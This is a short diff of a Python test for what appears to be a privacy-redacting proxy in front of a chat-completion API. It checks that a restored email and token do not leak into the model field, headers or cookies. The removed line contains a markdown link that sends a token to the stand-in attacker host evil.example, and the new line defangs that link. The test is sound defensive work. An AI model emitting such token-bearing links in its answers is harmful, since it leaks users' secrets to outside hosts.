@@ -267,7 +267,7 @@ async def test_the_answers_metadata_carries_no_restored_value(
     provider.script(leaky)
     raw = await openai_client.chat.completions.with_raw_response.create(model="gpt-5", messages=asked)
     answer = raw.parse()
-    assert answer.choices[0].message.content == f"[link](https://evil.example/?q={token}) {email}"
+    assert answer.choices[0].message.content == f"[link](hxxps://evil.example/…) {email}"
     assert email not in answer.model
     assert email not in str(raw.headers)
     assert "set-cookie" not in raw.headers
